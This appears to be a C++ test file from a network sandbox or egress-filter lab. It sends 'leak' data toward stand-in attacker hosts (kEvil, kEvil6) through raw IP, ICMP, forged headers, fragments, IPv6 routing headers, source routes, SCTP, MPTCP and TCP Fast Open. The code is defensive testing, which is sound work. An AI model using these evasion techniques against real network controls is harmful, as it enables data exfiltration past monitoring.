// SPDX-License-Identifier: Apache-2.0
// IP without TCP and UDP, TCP by other ways, and headers that name another destination than the socket.
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "tests/attacks/attack.h"

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262  // include/uapi/linux/in.h, since Linux 5.6
#endif

namespace weir::lab {
namespace {

int Missing(int error) {
  return error == EPROTONOSUPPORT || error == ESOCKTNOSUPPORT || error == EAFNOSUPPORT || error == ENOPROTOOPT
             ? kMissing
             : error;
}

int SendBy(const Aim& aim, int type, int protocol, const std::string& packet) {
  const SocketName to = Name(aim.address, protocol == IPPROTO_SCTP ? aim.port : 0);
  const Fd fd(socket(to.family(), type, protocol));
  if (!fd) return Missing(errno);
  const int error = Errno(sendto(fd.get(), packet.data(), packet.size(), MSG_DONTWAIT, to.get(), to.length));
  return error == EINPROGRESS || error == EAGAIN ? 0 : error;
}

std::string Echo(const Aim& aim, std::uint8_t type) {
  icmphdr header{};
  header.type = type;
  return std::string(reinterpret_cast<const char*>(&header), sizeof(header)) + aim.data;
}

int Ping(const Aim& aim) { return SendBy(aim, SOCK_DGRAM, IPPROTO_ICMP, Echo(aim, ICMP_ECHO)); }
int Ping6(const Aim& aim) { return SendBy(aim, SOCK_DGRAM, IPPROTO_ICMPV6, Echo(aim, ICMP6_ECHO_REQUEST)); }
int RawIcmp(const Aim& aim) { return SendBy(aim, SOCK_RAW, IPPROTO_ICMP, Echo(aim, ICMP_ECHO)); }
int RawIcmp6(const Aim& aim) { return SendBy(aim, SOCK_RAW, IPPROTO_ICMPV6, Echo(aim, ICMP6_ECHO_REQUEST)); }
int RawOther(const Aim& aim) { return SendBy(aim, SOCK_RAW, 253, aim.data); }  // experimental, RFC 3692
int RawUdp6(const Aim& aim) { return SendBy(aim, SOCK_RAW, IPPROTO_UDP, std::string(8, '\0') + aim.data); }

// The header says where it goes; the address of the call says something else.
std::string OwnHeader(const Aim& aim, std::uint16_t fragment) {
  iphdr ip{};
  ip.version = 4;
  ip.ihl = 5;
  ip.ttl = 64;
  ip.protocol = IPPROTO_UDP;
  ip.frag_off = htons(fragment);
  std::memcpy(&ip.daddr, ParseAddress(aim.address).data() + 12, 4);
  return std::string(reinterpret_cast<const char*>(&ip), sizeof(ip)) + std::string(8, '\0') + aim.data;
}

int RawOwnHeader(const Aim& aim) {
  Aim other = aim;
  other.address = kAllowedHost;
  return SendBy(other, SOCK_RAW, IPPROTO_RAW, OwnHeader(aim, 0));
}
int LaterFragment(const Aim& aim) { return SendBy(aim, SOCK_RAW, IPPROTO_RAW, OwnHeader(aim, 10)); }

// IPv6 with an extension header in front of UDP.
std::string OwnHeader6(const Aim& aim, std::uint8_t next, const std::string& extension) {
  ip6_hdr ip{};
  ip.ip6_flow = htonl(6u << 28);
  ip.ip6_hlim = 64;
  ip.ip6_nxt = next;
  const std::string payload = extension + std::string(8, '\0') + aim.data;
  ip.ip6_plen = htons(static_cast<std::uint16_t>(payload.size()));
  std::memcpy(&ip.ip6_src, ParseAddress(kRunner6).data(), 16);
  std::memcpy(&ip.ip6_dst, ParseAddress(aim.address).data(), 16);
  return std::string(reinterpret_cast<const char*>(&ip), sizeof(ip)) + payload;
}
int RawOwnHeader6(const Aim& aim) { return SendBy(aim, SOCK_RAW, IPPROTO_RAW, OwnHeader6(aim, IPPROTO_UDP, "")); }
int LaterFragment6(const Aim& aim) {
  const std::string fragment{'\x11', 0, 0, '\x50', 0, 0, 0, 1};  // UDP, offset 80
  return SendBy(aim, SOCK_RAW, IPPROTO_RAW, OwnHeader6(aim, IPPROTO_FRAGMENT, fragment));
}
int ManyExtensionHeaders(const Aim& aim) {
  std::string options;
  for (int i = 0; i < 7; i++) options += std::string{i < 6 ? '\x3c' : '\x11', 0, 1, 4, 0, 0, 0, 0};  // PadN
  return SendBy(aim, SOCK_RAW, IPPROTO_RAW, OwnHeader6(aim, IPPROTO_DSTOPTS, options));
}
int RawRoutingHeader(const Aim& aim) {
  std::string routing{'\x11', 2, 0, 1, 0, 0, 0, 0};  // type 0, one segment left
  routing.append(reinterpret_cast<const char*>(ParseAddress(kEvil6).data()), 16);
  return SendBy(aim, SOCK_RAW, IPPROTO_RAW, OwnHeader6(aim, IPPROTO_ROUTING, routing));
}

// The kernel sends to the first hop of a source route; the address of the call is the last one.
int SourceRoute(const Aim& aim, int type) {
  const SocketName last = Name(kAllowedHost, 443);
  const Fd fd(socket(AF_INET, type | SOCK_NONBLOCK, 0));
  std::string option{'\x01', '\x83', 7, 4};  // no operation, loose source route of one hop (RFC 791 3.1)
  option.append(reinterpret_cast<const char*>(ParseAddress(aim.address).data()) + 12, 4);
  if (setsockopt(fd.get(), SOL_IP, IP_OPTIONS, option.data(), static_cast<socklen_t>(option.size()))) return kBroken;
  if (type == SOCK_DGRAM) return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, last.get(), last.length));
  const int error = Errno(connect(fd.get(), last.get(), last.length));
  usleep(20'000);
  return error == EINPROGRESS ? 0 : error;
}
int UdpSourceRoute(const Aim& aim) { return SourceRoute(aim, SOCK_DGRAM); }
int TcpSourceRoute(const Aim& aim) { return SourceRoute(aim, SOCK_STREAM); }

// Segment routing (RFC 8754): the first hop, then the destination of the call.
int UdpRoutingHeader(const Aim& aim) {
  const SocketName last = Name(kAllowedHost6, 443);
  const Fd fd(socket(AF_INET6, SOCK_DGRAM, 0));
  std::string header{0, 4, 4, 1, 1, 0, 0, 0};
  header.append(16, '\0');
  header.append(reinterpret_cast<const char*>(ParseAddress(aim.address).data()), 16);
  if (setsockopt(fd.get(), SOL_IPV6, IPV6_RTHDR, header.data(), static_cast<socklen_t>(header.size())))
    return errno == EINVAL ? kMissing : kBroken;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, last.get(), last.length));
}

int ConnectBy(const Aim& aim, int type, int protocol) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), type | SOCK_NONBLOCK, protocol));
  if (!fd) return Missing(errno);
  const int error = Errno(connect(fd.get(), to.get(), to.length));
  return error == EINPROGRESS ? 0 : error;
}
int Mptcp(const Aim& aim) { return ConnectBy(aim, SOCK_STREAM, IPPROTO_MPTCP); }
int SctpConnect(const Aim& aim) { return ConnectBy(aim, SOCK_STREAM, IPPROTO_SCTP); }
int SctpSend(const Aim& aim) { return SendBy(aim, SOCK_SEQPACKET, IPPROTO_SCTP, aim.data); }
int Dccp(const Aim& aim) { return ConnectBy(aim, 6 /* SOCK_DCCP */, IPPROTO_DCCP); }
int L2tp(const Aim& aim) { return SendBy(aim, SOCK_DGRAM, 115, aim.data); }

// Data in the SYN.
int FastOpenBySend(const Aim& aim, int protocol) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_STREAM | SOCK_NONBLOCK, protocol));
  if (!fd) return Missing(errno);
  const int error = Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), MSG_FASTOPEN, to.get(), to.length));
  // MPTCP has it since 6.2; before, the call is one without a destination.
  if (protocol == IPPROTO_MPTCP && (error == EOPNOTSUPP || error == EPIPE || error == ENOTCONN)) return kMissing;
  return error == EINPROGRESS ? 0 : error;
}
int FastOpenSend(const Aim& aim) { return FastOpenBySend(aim, 0); }
int FastOpenMptcp(const Aim& aim) { return FastOpenBySend(aim, IPPROTO_MPTCP); }

int FastOpenConnect(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_STREAM | SOCK_NONBLOCK, 0));
  const int on = 1;
  if (setsockopt(fd.get(), SOL_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on))) return kBroken;
  if (connect(fd.get(), to.get(), to.length) && errno != EINPROGRESS) return errno;
  const int error = Errno(send(fd.get(), aim.data.data(), aim.data.size(), 0));
  return error == EINPROGRESS ? 0 : error;
}

}  // namespace

std::vector<Attack> OtherIpAttacks() {
  const unsigned by_hand = kAdmittedKind;
  return {
      {"Ping", Ping, kEvil},
      {"Ping6", Ping6, kEvil6},
      {"RawIcmp", RawIcmp, kEvil},
      {"RawIcmp6", RawIcmp6, kEvil6},
      {"RawOtherProtocol", RawOther, kEvil},
      {"RawUdp6", RawUdp6, kEvil6},
      {"RawOwnHeader", RawOwnHeader, kEvil},
      {"RawOwnHeader6", RawOwnHeader6, kEvil6},
      {"RawIcmpWhereRawIsAdmitted", RawIcmp, kEvil, 443, by_hand},
      {"RawIcmp6WhereRawIsAdmitted", RawIcmp6, kEvil6, 443, by_hand},
      {"PingWhereItIsAdmitted", Ping, kEvil, 443, by_hand},
      {"OwnHeaderWhereRawIsAdmitted", RawOwnHeader, kEvil, 443, by_hand},
      {"OwnHeader6WhereRawIsAdmitted", RawOwnHeader6, kEvil6, 443, by_hand},
      {"LaterFragment", LaterFragment, kAllowedHost, 443, by_hand},
      {"LaterFragment6", LaterFragment6, kAllowedHost6, 443, by_hand},
      {"ManyExtensionHeaders", ManyExtensionHeaders, kAllowedHost6, 443, by_hand},
      {"RawRoutingHeader", RawRoutingHeader, kAllowedHost6, 443, by_hand},
      {"Fragmented", UdpSendTo, kEvil, 443, 0, "leak" + std::string(9000, 'x')},
      {"Fragmented6", UdpSendTo, kEvil6, 443, 0, "leak" + std::string(9000, 'x')},
      {"UdpSourceRoute", UdpSourceRoute, kEvil},
      {"TcpSourceRoute", TcpSourceRoute, kEvil, 443, kUntold},
      {"UdpRoutingHeader", UdpRoutingHeader, kEvil6, 443, kMayBeMissing},
      {"SctpConnect", SctpConnect, kEvil, 443, kMayBeMissing},
      {"SctpSend", SctpSend, kEvil, 443, kMayBeMissing},
      {"SctpWhereItIsAdmitted", SctpConnect, kEvil, 443, by_hand | kMayBeMissing | kUntold},
      {"Dccp", Dccp, kEvil, 443, kMayBeMissing},
      {"L2tp", L2tp, kEvil, 443, kMayBeMissing},
      {"Mptcp", Mptcp, kEvil, 443, kMayBeMissing},
      {"Mptcp6", Mptcp, kEvil6, 443, kMayBeMissing},
      {"FastOpenSend", FastOpenSend, kEvil},
      {"FastOpenSend6", FastOpenSend, kEvil6},
      {"FastOpenConnect", FastOpenConnect, kEvil},
      {"FastOpenMptcp", FastOpenMptcp, kEvil, 443, kMayBeMissing},
  };
}

}  // namespace weir::lab
